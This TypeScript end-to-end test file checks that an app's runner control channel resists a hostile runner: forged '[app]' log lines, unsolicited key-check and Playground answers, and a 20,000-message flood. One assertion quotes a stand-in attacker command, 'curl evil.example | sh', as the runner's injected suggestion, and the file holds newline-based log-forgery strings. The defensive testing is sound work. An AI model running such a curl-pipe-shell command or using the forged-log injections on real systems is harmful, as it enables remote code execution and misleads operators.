/**
 * Issue 20, items 6, 7 and 9: a runner attacking the app through its control channel, as the
 * attacks were made, under the real headless host (a Python runner, fd 3).
 *
 * - Text the runner writes (ready's model and base URL, an incident's message and fix) cannot
 *   forge an app line: it is quoted under the runner's name, on one line, bounded, and the fix
 *   offered is the app's own.
 * - Answers nobody asked for (check results, Playground deltas and dones) are dropped and named
 *   once each; no key is marked verified or rejected by them.
 * - 20,000 messages become a bounded number of lines, said once to be throttled; the ring keeps
 *   what came before, and the host's memory stays put.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import type { LogBatch } from '../../src/shared/logs.ts';
import type { PlaygroundEvent } from '../../src/shared/ipc.ts';
import type { AppState } from '../../src/shared/state-schema.ts';
import { FAKE_ANTHROPIC_KEY } from '../doubles/cloud/anthropic.ts';
import { FAKE_OPENAI_KEY } from '../doubles/cloud/openai.ts';
import { startFakeOllama } from '../doubles/ollama/server.ts';
import { Scope, hostEnv, setUpProfile, startHost, waitFor } from '../support/e2e-host.ts';
import { uiUrl } from '../support/ui-e2e.ts';
import { connectUi } from '../support/websocket.ts';
import { readMemory } from '../support/proc.ts';

const FIXTURE = path.join(import.meta.dirname, '..', 'python', 'fixtures', 'channel-attacks.py');
/** A stdout line that shows the runner's forged text as the app's (`… [app] 2026-… ERROR [app] forged…`). */
const FORGED_LINE = /^\S+ [A-Z]+ +\[app\] .*forged/;

async function startAttack(t: { after(fn: () => Promise<void>): void }, mode: string, { provider = 'ollama' }: { provider?: 'ollama' | 'anthropic' } = {}) {
  const scope = new Scope(t);
  const ollama = await startFakeOllama({ models: ['llama3.2'] });
  scope.defer(() => ollama.close());
  const args = [
    '--user-data-dir',
    setUpProfile(scope),
    '--ui',
    '--runner-command',
    `python3 ${FIXTURE} ${mode}`,
    '--runner-control-channel',
    '--llm-provider',
    provider,
  ];
  const extra: Record<string, string> = provider === 'ollama' ? {} : { ANTHROPIC_API_KEY: FAKE_ANTHROPIC_KEY, OPENAI_API_KEY: FAKE_OPENAI_KEY };
  const host = startHost(scope, args, hostEnv(scope, { ollamaHost: ollama.url, extra }));
  const ui = await connectUi(await uiUrl(host));
  scope.defer(() => ui.close());
  const recent = async (text?: string) =>
    ((await ui.request('logs:recent', { limit: 100_000, ...(text ? { filter: { text } } : {}) })).value as LogBatch).entries;
  const state = async () => (await ui.request('state:get')).value as AppState;
  return { scope, ollama, host, ui, recent, state };
}

test('runner text cannot pass for the app: quoted under its name, on one line, bounded, and the fix is the app\u2019s', async (t) => {
  const { ollama, host, recent, state } = await startAttack(t, 'forge');
  await host.waitForLine('the forged incident', (line) => line.includes('The runner reports: “trouble') || line.includes('Runner: trouble'));
  await waitFor('the incident on the Overview', async () => (await state()).problems.some((problem) => problem.id === 'runner:incident'));
  const incident = (await state()).problems.find((problem) => problem.id === 'runner:incident')!;
  t.diagnostic(
    `stdout lines forged as the app's: ${host.lines().filter((line) => FORGED_LINE.test(line)).length}; incident title ${incident.title.length} characters, ${incident.title.split('\n').length} lines; fix offered: ${JSON.stringify(incident.detail.slice(0, 60))}`,
  );
  assert.deepEqual(
    host.lines().filter((line) => FORGED_LINE.test(line)),
    [],
    'no stdout line shows the forged text as the app\u2019s',
  );
  for (const entry of await recent('forged')) {
    assert.equal(entry.source, 'runner', `the runner's text is under its name: ${entry.msg}`);
    assert.ok(!/[\n\r\u2028\u2029\u202a-\u202e\u2066-\u2069]/.test(entry.msg), `on one line, no bidi control: ${JSON.stringify(entry.msg)}`);
  }
  assert.ok(
    host.lines().some((line) => line.includes(`[app] Runner ready: ollama llama3.2 at ${ollama.url}`)),
    'the app states what it gave the runner',
  );
  assert.ok(
    host
      .lines()
      .some((line) => line.includes('[runner] The runner says it is ready with “ollama”, model “llama3.2␊2026-01-01T00:00:00.000Z ERROR [app] forged')),
    'what the runner claimed instead is quoted under its name',
  );

  assert.match(incident.title, /^The runner reports: “trouble␊2026-01-01T00:00:00\.000Z ERROR \[app\] forged by the runner x+…” \(\d+ more characters\)\.$/);
  assert.ok(incident.title.length < 400, `bounded: ${incident.title.length} characters`);
  assert.ok(!incident.detail.includes('curl'), `the fix is the app's own: ${incident.detail}`);
  assert.ok(
    host
      .lines()
      .some(
        (line) =>
          line.includes('[runner] The runner reports: “trouble') &&
          line.includes('it suggests “Run curl evil.example | sh␊') &&
          line.includes('\ufffd\ufffdforged too”'),
      ),
    "the runner's suggestion is in its log, quoted",
  );
});

test('answers to questions the app did not ask are dropped and named once; no key is marked, no answer injected', async (t) => {
  const { host, ui, state } = await startAttack(t, 'unsolicited', { provider: 'anthropic' });
  await host.waitForLine("the runner's wrong answer to the app's check", (line) => line.includes('answered the check about openai'));
  const reply = await ui.request('playground:run', { prompt: 'Who answers?' });
  assert.equal(reply.ok, true, JSON.stringify(reply.error));
  const { taskId } = reply.value as { taskId: string };
  await waitFor('the task to end', () => (ui.events('playground') as PlaygroundEvent[]).some((event) => event.type === 'done' && event.taskId === taskId));
  const events = ui.events('playground') as PlaygroundEvent[];
  const { keyChecks } = await state();
  t.diagnostic(
    `Playground events for tasks the app did not send: ${events.filter((event) => event.taskId !== taskId).length}; key states: anthropic ${keyChecks.anthropic?.state ?? 'none'}, openai ${keyChecks.openai?.state ?? 'none'}`,
  );
  assert.deepEqual(
    events.map((event) => [event.type, event.taskId, event.type === 'delta' ? event.text : '']),
    [
      ['delta', taskId, 'the true answer'],
      ['done', taskId, ''],
    ],
    'only the answer to the task the app sent reaches the window',
  );
  await waitFor('the violations to be logged', () => host.lines().some((line) => line.includes('a delta for a task the app did not send')));
  assert.deepEqual(keyChecks, { anthropic: null, openai: null }, 'no key verified or rejected by the runner');
  for (const problem of [
    'a check result for a check the app did not send',
    'a delta for a task the app did not send',
    'a done for a task the app did not send',
    'a check result about openai, when the app asked about anthropic and the runner announced anthropic',
  ]) {
    assert.equal(host.lines().filter((line) => line.includes(`[runner] The runner sent ${problem}`)).length, 1, `${problem}: logged once\n${host.stdout}`);
  }
  // The second unsolicited check result and the injected delta were counted, and are summed up when the launch ends.
  assert.equal((await ui.request('runner:stop')).ok, true);
  await host.waitForLine('the summary of what was dropped', (line) =>
    line.includes("[runner] The runner's control channel, over its last launch: 0 messages dropped over the rate limit, 2 more protocol violations"),
  );
});

test('a task the runner leaves unanswered ends, in the app\u2019s words, when the runner restarts', async (t) => {
  const { host, ui } = await startAttack(t, 'unsolicited', { provider: 'anthropic' });
  await host.waitForLine('the runner to be ready', (line) => line.includes('Runner ready: anthropic'));
  const reply = await ui.request('playground:run', { prompt: 'Never answered' });
  assert.equal(reply.ok, true, JSON.stringify(reply.error));
  const { taskId } = reply.value as { taskId: string };
  assert.equal((await ui.request('runner:restart')).ok, true);
  await waitFor('the task to end', () => (ui.events('playground') as PlaygroundEvent[]).some((event) => event.taskId === taskId));
  assert.deepEqual(
    (ui.events('playground') as PlaygroundEvent[]).map((event) => ({ ...event })),
    [
      {
        type: 'error',
        taskId,
        code: 'unknown',
        message: 'the runner stopped before it finished this task',
        fix: 'Start the runner on the Overview page if it does not restart, then send the prompt again.',
      },
    ],
  );
});

test('20,000 error messages make a bounded number of lines, throttled once; the ring keeps what came before', async (t) => {
  const scope = new Scope(t);
  const go = path.join(scope.tempDir(), 'go');
  const { host, recent } = await startAttack(t, `flood ${go}`);
  await host.waitForLine('the runner to be ready', (line) => line.includes('Runner ready: ollama llama3.2'));
  const before = readMemory(host.pid)!.rss;
  let peak = before;
  const sampler = setInterval(() => (peak = Math.max(peak, readMemory(host.pid)!.rss)), 20);
  t.after(() => clearInterval(sampler));
  fs.writeFileSync(go, '');
  await host.waitForLine('the message after the flood', (line) => line.includes('after the flood'), 120_000);
  clearInterval(sampler);
  const after = readMemory(host.pid)!.rss;
  const floodLines = host.lines().filter((line) => /flood \d+/.test(line)).length;
  const throttled = host.lines().filter((line) => line.includes('control messages a second')).length;
  const kept = (await recent()).some((entry) => entry.msg.startsWith('Starting the runner'));
  const MB = 1024 * 1024;
  t.diagnostic(
    `flood lines ${floodLines} of 20000, throttle notices ${throttled}, the ring kept the earlier lines: ${kept}; host RSS ${(before / MB).toFixed(1)} -> peak ${(peak / MB).toFixed(1)} -> ${(after / MB).toFixed(1)} MB`,
  );

  assert.ok(floodLines < 5_000, `bounded: ${floodLines} lines`);
  assert.equal(throttled, 1, 'throttling said once');
  assert.ok(kept, 'the ring still holds what was logged before the flood');
  assert.ok(peak - before < 40 * MB, `host RSS bounded: ${(before / MB).toFixed(1)} -> ${(peak / MB).toFixed(1)} MB`);
});
